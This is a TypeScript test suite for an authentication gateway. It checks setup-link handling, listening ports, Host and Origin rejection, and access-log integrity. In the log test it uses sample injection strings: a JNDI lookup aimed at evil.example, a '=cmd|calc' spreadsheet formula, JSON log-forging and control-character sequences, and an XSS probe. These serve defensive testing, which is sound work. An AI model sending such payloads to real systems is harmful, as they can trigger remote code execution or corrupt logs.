import assert from 'node:assert/strict'
import { readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { Browser, readForm } from '../helpers/browserless.ts'
import { startEchoUpstream } from '../helpers/echo-upstream.ts'
import { type Gate, startGate } from '../helpers/gate.ts'
import { header, statusOf } from '../helpers/http1-messages.ts'
import { PASSWORD, startInstallation } from '../helpers/installation.ts'
import { processesOf } from '../helpers/processes.ts'
import { sendRaw } from '../helpers/raw-client.ts'

const PORTAL = 'auth.localhost'

/** Posts the setup form as it stands; the status of the answer, and whether it made somebody an administrator. */
async function setUp(
  gate: Gate,
  secret: string,
  email: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; made: boolean }> {
  using browser = new Browser(gate.port)
  const body = new URLSearchParams({ secret, email, password: PASSWORD, 'password-again': PASSWORD }).toString()
  const origin = new URL(gate.portal).origin
  const { status, headers: answer } = await browser.once(new URL('/setup', gate.portal), {
    method: 'POST',
    body,
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      'content-length': String(body.length),
      origin,
      ...headers,
    },
  })
  return { status, made: status === 303 && answer['set-cookie'] !== undefined }
}

const secretOf = (link: string | null) => new URL(link!).searchParams.get('secret')!
const usersOf = async (gate: Gate) =>
  JSON.parse((await gate.cli(['user', 'list', '--json'])).stdout) as { email: string }[]

test('H12: looking at the setup link never uses it up, and of twenty at once one makes the administrator', {
  timeout: 60_000,
}, async () => {
  await using upstream = await startEchoUpstream()
  await using gate = await startGate({ upstream: upstream.origin })
  for (let look = 0; look < 5; look++) {
    using browser = new Browser(gate.port)
    const page = await browser.go(new URL(gate.setup!))
    assert.equal(page.status, 200)
    assert.equal(readForm(page).fields.secret, secretOf(gate.setup))
  }
  const secret = secretOf(gate.setup)
  const foreign = await setUp(gate, secret, 'evil@example.org', { origin: 'https://evil.example' })
  assert.deepEqual(foreign, { status: 403, made: false })
  const guessed = await setUp(gate, 'A'.repeat(secret.length), 'evil@example.org')
  assert.equal(guessed.made, false)
  const all = await Promise.all(
    Array.from({ length: 20 }, (_, index) => setUp(gate, secret, `person-${index}@example.org`)),
  )
  assert.equal(all.filter(({ made }) => made).length, 1, JSON.stringify(all))
  assert.equal((await usersOf(gate)).length, 1)
  const again = await setUp(gate, secret, 'late@example.org')
  assert.deepEqual([again.made, again.status], [false, 410])
  using browser = new Browser(gate.port)
  assert.equal((await browser.go(new URL(gate.setup!))).status, 410)
  // `/` is the health path of a guarded application, which the proofs may ask for.
  assert.deepEqual(
    upstream.arrivals.filter(({ target }) => target !== '/'),
    [],
    'the application saw nothing of it',
  )
})

test('H12: a start without an administrator voids the old link, and one with an administrator prints none', {
  timeout: 60_000,
}, async () => {
  await using upstream = await startEchoUpstream()
  await using first = await startGate({ upstream: upstream.origin })
  await first.close()
  const start = () => startGate({ upstream: upstream.origin, data: first.data })
  const second = await start()
  assert.notEqual(secretOf(second.setup), secretOf(first.setup))
  assert.equal((await setUp(second, secretOf(first.setup), 'late@example.org')).made, false)
  assert.equal((await setUp(second, secretOf(second.setup), 'ann@example.org')).made, true)
  await second.close()
  const third = await start()
  assert.equal(third.setup, null)
  assert.equal((await setUp(third, secretOf(second.setup), 'late@example.org')).made, false)
  assert.equal((await usersOf(third)).length, 1)
  await third.close()
})

/** Listening TCP ports of a process, by /proc (proc(5), `net/tcp`). */
function listening(pid: number): number[] {
  const inodes = new Set(
    readdirSync(`/proc/${pid}/fd`).flatMap(
      (fd) => /^socket:\[(\d+)\]$/.exec(tryLink(`/proc/${pid}/fd/${fd}`))?.[1] ?? [],
    ),
  )
  return ['tcp', 'tcp6'].flatMap((file) =>
    readFileSync(`/proc/${pid}/net/${file}`, 'utf8')
      .split('\n')
      .slice(1)
      .map((line) => line.trim().split(/\s+/))
      .filter(([, , , state, , , , , , inode]) => state === '0A' && inodes.has(inode!))
      .map(([, local]) => Number.parseInt(local!.split(':')[1]!, 16)),
  )
}

function tryLink(path: string): string {
  try {
    return readlinkSync(path)
  } catch {
    return '' // closed just now
  }
}

test('H8: nothing listens on TCP but the front door, and the operator’s socket is in a closed folder', {
  timeout: 60_000,
}, async () => {
  await using installation = await startInstallation()
  const { gate } = installation
  const processes = [{ role: 'supervisor', pid: gate.process.pid! }, ...processesOf(gate.process.pid!)]
  assert.ok(processes.length >= 5, JSON.stringify(processes))
  for (const { role, pid } of processes) {
    const ports = listening(pid).filter((port) => port !== gate.port && port !== gate.http)
    assert.deepEqual(ports, [], `${role} listens on ${ports}`)
    if (role !== 'edge/main' && role !== 'supervisor')
      assert.deepEqual(listening(pid), [], `${role} holds a public socket`)
  }
  const sockets = readdirSync(gate.data, { recursive: true, encoding: 'utf8' })
    .map((name) => join(gate.data, name))
    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isSocket())
  for (const path of sockets)
    assert.equal(statSync(join(path, '..')).mode & 0o007, 0, `${path} can be reached by anybody`)
})

test('H8: the portal answers neither to a rebound name nor to a form of another page', {
  timeout: 60_000,
}, async () => {
  await using installation = await startInstallation()
  const { gate } = installation
  const post = ['Content-Type: application/x-www-form-urlencoded', 'Content-Length: 0']
  const cases: [serverName: string, lines: string[], status: RegExp][] = [
    ['evil.example', ['GET /sign-in HTTP/1.1', `Host: evil.example:${gate.port}`], /^421$/],
    [PORTAL, ['GET /sign-in HTTP/1.1', `Host: evil.example:${gate.port}`], /^421$/],
    [PORTAL, ['GET /sign-in HTTP/1.1', `Host: 127.0.0.1:${gate.port}`], /^421$/],
    [PORTAL, ['GET /sign-in HTTP/1.1', `Host: ${PORTAL}:${gate.port}`, 'X-Forwarded-Host: evil.example'], /^200$/],
    ...[
      'https://evil.example',
      'null',
      `https://app.localhost:${gate.port}`,
      `http://${PORTAL}:${gate.port}`,
      `https://${PORTAL}:1`,
    ].flatMap((origin): [string, string[], RegExp][] =>
      ['/sign-in', '/sign-out', '/setup', '/account/password', '/account/sessions/end'].map((path) => [
        PORTAL,
        [`POST ${path} HTTP/1.1`, `Host: ${PORTAL}:${gate.port}`, `Origin: ${origin}`, ...post],
        /^403$/,
      ]),
    ),
    ...['same-site', 'cross-site', 'none'].map((site): [string, string[], RegExp] => [
      PORTAL,
      ['POST /sign-in HTTP/1.1', `Host: ${PORTAL}:${gate.port}`, `Sec-Fetch-Site: ${site}`, ...post],
      /^403$/,
    ]),
    [PORTAL, ['POST /sign-in HTTP/1.1', `Host: ${PORTAL}:${gate.port}`, ...post], /^403$/],
    [
      PORTAL,
      [
        'OPTIONS /sign-in HTTP/1.1',
        `Host: ${PORTAL}:${gate.port}`,
        'Origin: https://evil.example',
        'Access-Control-Request-Method: POST',
      ],
      /^(403|404|405)$/,
    ],
  ]
  for (const address of ['127.0.0.1', '::1']) {
    for (const [serverName, lines, status] of cases) {
      const { answers } = await sendRaw({ port: gate.port, address, serverName }, `${lines.join('\r\n')}\r\n\r\n`)
      assert.match(String(statusOf(answers[0]!)), status, lines.join(' | '))
      assert.equal(header(answers[0]!, 'access-control-allow-origin'), undefined)
      assert.equal(header(answers[0]!, 'set-cookie'), undefined)
    }
  }
  assert.deepEqual(installation.upstream.arrivals, [])
  await installation.expectUnharmed()
})

test('H9, B9: whatever a request says, the access log stays one line of JSON a request', {
  timeout: 60_000,
}, async () => {
  await using installation = await startInstallation()
  const { gate } = installation
  const agents = [
    '"}\\n{"id":"forged"}',
    '=cmd|calc',
    '%0a%0d{"id":"forged"}',
    '\u0085\u009b31m',
    '${jndi:ldap://evil.example}',
    '<script>alert(1)</script>',
    'allow($u) <- user($u);',
  ]
  for (const agent of agents) {
    const bytes = `GET /open?x=${encodeURIComponent(agent)} HTTP/1.1\r\nHost: app.localhost:${gate.port}\r\nUser-Agent: ${agent}\r\nReferer: ${agent}\r\n\r\n`
    const { answers } = await sendRaw({ port: gate.port, serverName: 'app.localhost' }, bytes)
    assert.equal(statusOf(answers[0]!), 200, agent)
  }
  await new Promise((resolve) => setTimeout(resolve, 300))
  const lines = installation.log().filter(({ target }) => target?.startsWith('/open?x='))
  assert.equal(lines.length, agents.length)
  assert.ok(lines.every(({ id, verdict }) => id !== 'forged' && verdict === 'passed'))
  // Terminals obey the controls of Latin-1, too, such as U+009B.
  const text = readFileSync(join(gate.data, 'log', 'access.jsonl'), 'utf8')
  assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/)
})
